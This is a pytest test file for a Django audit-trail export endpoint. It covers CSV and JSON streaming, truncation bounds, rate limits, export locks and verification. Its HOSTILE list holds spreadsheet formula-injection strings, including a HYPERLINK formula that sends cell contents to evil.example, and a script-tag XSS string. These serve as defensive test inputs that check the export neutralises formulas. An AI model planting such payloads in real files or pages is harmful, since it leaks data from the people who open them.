"""Exporting the trail: complete, streamed, and harmless in a spreadsheet (F68)."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import psycopg
import pytest
from django.db import connection
from django.test import Client

from audit import export, sealing, verify
from audit.actors import Actor
from audit.models import Event
from rbac import audit_export
from tenants import locks
from tests import databases
from tests.audit.asking import Asking, write
from tests.factories import make_organisation, owner_of, sign_in

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1",
    "＠x",
    'a "quoted" text, with, commas\nand lines\r\n',
    "'=1",
    "ünïcödé 🙂 ‮",
    "<script>alert(1)</script>",
]


@pytest.fixture
def asking() -> Asking:
    return Asking(make_organisation())


def text_of(answer: Any) -> str:
    assert answer.status_code == 200, answer.content
    assert answer.streaming
    return b"".join(answer).decode()


def rows_of(text: str) -> list[dict[str, str]]:
    """As a spreadsheet reads it."""
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


@pytest.mark.covers("F68")
@pytest.mark.parametrize("text", HOSTILE, ids=[f"hostile-{n}" for n in range(len(HOSTILE))])
def test_no_cell_of_a_csv_is_a_formula(asking: Asking, text: str) -> None:
    write(
        asking.organisation, text, reason=text, before={text: text}, after={"x": [text]},
        actor=Actor("person", text, text), request_id=text, path=text,
    )  # fmt: skip
    answer = asking.get("/export", format="csv", event="thing_done")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    (row,) = rows_of(text_of(answer))
    for cell in row.values():
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＠"))
    for column in ("reason", "subject", "user"):
        assert row[column] in (text, f"'{text}")
    assert json.loads(row["after"]) == {"x": [text]}


def test_json_is_whole_and_exact(asking: Asking) -> None:
    for text in HOSTILE:
        write(asking.organisation, text, reason=text)
    answer = asking.get("/export", event="thing_done")
    assert answer["Content-Type"] == "application/json"
    assert answer["Content-Disposition"].startswith('attachment; filename="audit-')
    assert answer["Cache-Control"] == "no-store"
    events = json.loads(text_of(answer))["events"]
    assert [event["reason"] for event in reversed(events)] == HOSTILE


def test_long_trails_come_in_pieces(asking: Asking, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE", 7)
    for number in range(23):
        write(asking.organisation, f"n{number}", reason="r" * 900)
    expected = [f"n{number}" for number in reversed(range(23))]
    assert [
        e["subject"]
        for e in json.loads(text_of(asking.get("/export", event="thing_done")))["events"]
    ] == expected
    text = text_of(asking.get("/export", format="csv", event="thing_done"))
    assert [row["subject"] for row in rows_of(text)] == expected


def test_an_empty_one_is_well_formed(asking: Asking) -> None:
    assert json.loads(text_of(asking.get("/export", event="no_such"))) == {
        "events": [],
        "complete": True,
    }
    assert rows_of(text_of(asking.get("/export", event="no_such", format="csv"))) == []


def test_with_verification(asking: Asking) -> None:
    write(asking.organisation, "sealed")
    sealing.seal()
    write(asking.organisation, "fresh")
    answer = asking.get("/export", event="thing_done", verify="true")
    events = json.loads(text_of(answer))["events"]
    assert [(e["subject"], e["verified"]) for e in events] == [("fresh", None), ("sealed", True)]
    answer = asking.get("/export", event="thing_done", verify="true", format="csv")
    assert [row["verified"] for row in rows_of(text_of(answer))] == ["", "true"]
    without = json.loads(text_of(asking.get("/export", event="thing_done")))["events"]
    assert "verified" not in without[0]


def test_is_itself_an_event_and_not_in_the_file(asking: Asking) -> None:
    text = text_of(asking.get("/export", format="csv", success="true"))
    event = Event.objects.filter(organisation=asking.organisation.pk).latest("id")
    assert (event.action, event.actor_kind) == ("audit_exported", "token")
    assert event.after == {"format": "csv", "filters": "success=true"}
    assert event.path == "/api/audit/export"
    assert "audit_exported" not in text


def test_asking_for_the_head_exports_nothing(asking: Asking) -> None:
    before = Event.objects.count()
    answer = Client().head(
        "/api/audit/export?format=csv",
        HTTP_HOST=asking.organisation.instance_host,
        HTTP_X_API_TOKEN=asking.secret,
    )
    assert (answer.status_code, answer["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert Event.objects.count() == before


@pytest.mark.parametrize(
    ("query", "code"),
    [({"format": "xml"}, "invalid_format"), ({"verify": "maybe"}, "invalid_verify")],
    ids=["format", "verify"],
)
def test_mistakes(asking: Asking, query: dict[str, str], code: str) -> None:
    answer = asking.get("/export", **query)
    assert (answer.status_code, answer.json()["code"]) == (400, code)


def test_a_client_that_accepts_only_csv_is_served(asking: Asking) -> None:
    answer = asking.client.get(
        "/api/audit/export?format=csv",
        HTTP_HOST=asking.organisation.instance_host,
        HTTP_X_API_TOKEN=asking.secret,
        HTTP_ACCEPT="text/csv",
    )
    assert answer.status_code == 200


def test_a_failure_on_the_way_leaves_no_whole_file(
    asking: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Half an export must not pass for all of it."""
    monkeypatch.setattr(export, "PAGE", 5)
    for number in range(12):
        write(asking.organisation, f"n{number}")
    answer = asking.get("/export", event="thing_done")
    received = []
    monkeypatch.setattr(export, "seals_of", _broken)
    with pytest.raises(OSError, match="gone"):
        for piece in answer:
            received.append(piece)
    with pytest.raises(ValueError, match="Expecting"):
        json.loads(b"".join(received))


def _broken(_: object) -> dict[int, Any]:
    raise OSError("gone")


def bounded(asking: Asking, monkeypatch: pytest.MonkeyPatch, **bounds: float) -> None:
    """Five events, and an export of them that may not be as long."""
    for name, value in bounds.items():
        monkeypatch.setattr(audit_export, name, value)
    for number in range(5):
        write(asking.organisation, f"n{number}")


@pytest.mark.parametrize(
    ("bounds", "subjects", "truncated"),
    [({"ROWS": 3}, ["n4", "n3", "n2"], "true"), ({"ROWS": 5}, ["n4", "n3", "n2", "n1", "n0"], None),
     ({"SECONDS": 0}, [], None)],
    ids=["rows", "just enough", "seconds"],
)  # fmt: skip
def test_what_ends_at_a_bound_says_so(
    asking: Asking,
    monkeypatch: pytest.MonkeyPatch,
    bounds: dict[str, float],
    subjects: list[str],
    truncated: str | None,
) -> None:
    bounded(asking, monkeypatch, **bounds)
    answer = asking.get("/export", event="thing_done")
    body = json.loads(text_of(answer))
    assert [event["subject"] for event in body["events"]] == subjects
    assert body["complete"] is (len(subjects) == 5)
    assert answer.get("X-Truncated") == truncated
    text = text_of(asking.get("/export", event="thing_done", format="csv"))
    lines = text.removesuffix("\r\n").split("\r\n")
    assert lines[-1].startswith("# incomplete") is (len(subjects) < 5)
    assert len(lines) == 1 + len(subjects) + (len(subjects) < 5)


def test_goes_on_where_it_ended(asking: Asking, monkeypatch: pytest.MonkeyPatch) -> None:
    """The way that the documentation says: a moment after the last one, ids tell doubles."""
    bounded(asking, monkeypatch, ROWS=3)
    first = json.loads(text_of(asking.get("/export", event="thing_done")))["events"]
    last = Event.objects.get(uuid=first[-1]["id"])
    after = last.at.isoformat().replace("+00:00", "Z")
    rest = json.loads(text_of(asking.get("/export", event="thing_done", endTime=after)))["events"]
    assert [event["subject"] for event in first + rest] == ["n4", "n3", "n2", "n1", "n0"]


def test_an_organisation_has_a_budget_of_exports(
    asking: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_export, "PER_HOUR", 2)
    for _ in range(2):
        text_of(asking.get("/export"))
    written = Event.objects.filter(action="audit_exported").count()
    answer = asking.get("/export")
    assert (answer.status_code, answer.json()["code"]) == (429, "audit_export_limit")
    assert int(answer["Retry-After"]) > 0
    page = in_browser(asking)
    assert page.status_code == 429 and page["Content-Type"].startswith("text/html")
    assert "had its 2 exports of this hour" in page.content.decode()
    assert Event.objects.filter(action="audit_exported").count() == written
    other = Asking(make_organisation())
    text_of(other.get("/export"))


def in_browser(asking: Asking) -> Any:
    """As who follows the page's link."""
    client = Client(headers={"host": asking.organisation.instance_host})
    sign_in(client, owner_of(asking.organisation), asking.organisation)
    return client.get("/api/audit/export", headers={"accept": "text/html,*/*;q=0.8"})


def test_one_export_at_a_time(asking: Asking, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(audit_export, "PER_HOUR", 1)
    key = locks.key(f"audit-export:{asking.organisation.pk}")
    name = connection.settings_dict["NAME"]
    with psycopg.connect(databases.url(name), autocommit=True) as other:
        other.execute("SELECT pg_advisory_lock(%s)", [key])
        answer = asking.get("/export")
        assert (answer.status_code, answer.json()["code"]) == (409, "audit_export_running")
        assert int(answer["Retry-After"]) > 0
        assert "under way" in in_browser(asking).content.decode()
        other.execute("SELECT pg_advisory_unlock(%s)", [key])
        free = "SELECT pg_try_advisory_lock(%s), pg_advisory_unlock(%s)"
        answer = asking.get("/export")  # what was refused cost nothing of the budget
        assert other.execute("SELECT pg_try_advisory_lock(%s)", [key]).fetchone() == (False,)
        text_of(answer)
        assert other.execute(free, [key, key]).fetchone() == (True, True)
        assert asking.get("/export").status_code == 429
        assert other.execute(free, [key, key]).fetchone() == (True, True)


def test_an_export_that_nobody_reads_on_ends_the_turn(asking: Asking) -> None:
    """Servers close an answer whose client went away, read or not."""
    key = locks.key(f"audit-export:{asking.organisation.pk}")
    name = connection.settings_dict["NAME"]
    answer = asking.get("/export")
    with psycopg.connect(databases.url(name), autocommit=True) as other:
        mine = "SELECT pg_try_advisory_lock(%s)"
        assert other.execute(mine, [key]).fetchone() == (False,)
        for closer in answer._resource_closers:
            closer()
        assert other.execute(mine, [key]).fetchone() == (True,)


def test_each_batch_is_checked_once(asking: Asking, monkeypatch: pytest.MonkeyPatch) -> None:
    """A batch holds the whole platform's events of a minute; ids and batches need not agree."""
    for number in range(12):
        write(asking.organisation, f"n{number}")
        sealing.seal()
    batches = [seal.number for seal in export.seals_of(_ids(asking)).values()]
    assert len(set(batches)) == 12
    asked: list[int] = []
    real = verify.batch

    def counted(number: int) -> list[verify.Finding]:
        asked.append(number)
        return real(number)

    monkeypatch.setattr(verify, "batch", counted)
    monkeypatch.setattr(export, "seals_of", _shuffled)
    answer = asking.get("/export", event="thing_done", verify="true")
    events = json.loads(text_of(answer))["events"]
    assert [event["verified"] for event in events] == [True] * 12
    assert len(asked) == len(set(asked)) > 0


def _ids(asking: Asking) -> list[int]:
    rows = Event.objects.filter(organisation=asking.organisation.pk, action="thing_done")
    return list(rows.order_by("-id").values_list("pk", flat=True))


_seals_of = export.seals_of


def _shuffled(events: Any) -> Any:
    """Neighbours are of distant batches: ten of them, in turn, then the same again."""
    found = _seals_of(events)
    some = list(found.values())[:10]
    return {event: some[place % len(some)] for place, event in enumerate(sorted(found))}
